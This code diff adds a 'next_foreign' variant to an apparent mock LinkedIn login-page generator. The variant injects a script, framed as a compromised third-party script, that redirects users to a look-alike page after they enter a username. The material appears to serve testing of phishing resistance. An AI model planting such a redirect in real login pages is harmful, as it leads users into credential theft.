@@ -206,8 +206,22 @@ LOGIN_JS = """(() => {
 })();"""
 
 
+# The `next_foreign` variant: a script slipped into the login page (a compromised third-party
+# script) that, once a username is in and the visitor moves on to the password, sends them to a
+# look-alike's page, the way a two-step sign-in's "Next" would lead to the password page.
+HIJACK_JS = """(() => {
+  const to = __CFG__;
+  const user = document.getElementById('username'), pass = document.getElementById('password');
+  let sent = false;
+  const away = () => { if (!sent && user.value.trim()) { sent = true; location.assign(to); } };
+  user.addEventListener('change', away);
+  user.addEventListener('blur', away);
+  pass.addEventListener('focus', away);
+})();"""
+
+
 def login(p: Page, *, action: str, redirect: str, csrf: str, login_csrf: str, email: str = "",
-          err_user: str = "", err_password: str = "") -> str:
+          err_user: str = "", err_password: str = "", hijack_to: str = "") -> str:
     uid = p.id()
     body = f"""
 <header class="{p.h('logo_bar')}"><a href="/" aria-label="LinkedIn">{LOGO}</a></header>
@@ -248,7 +262,8 @@ def login(p: Page, *, action: str, redirect: str, csrf: str, login_csrf: str, em
 </main>"""
     cfg = {"noUser": text(p.lang, "err_no_user"), "noPass": text(p.lang, "err_no_pw"),
            "show": text(p.lang, "show"), "hide": text(p.lang, "hide")}
-    return document(p, text(p.lang, "login_title"), body, script(LOGIN_JS, cfg))
+    hijack = script(HIJACK_JS, hijack_to) if hijack_to else ""
+    return document(p, text(p.lang, "login_title"), body, script(LOGIN_JS, cfg) + hijack)
 
 
 def remember_me(p: Page, token: str) -> str:
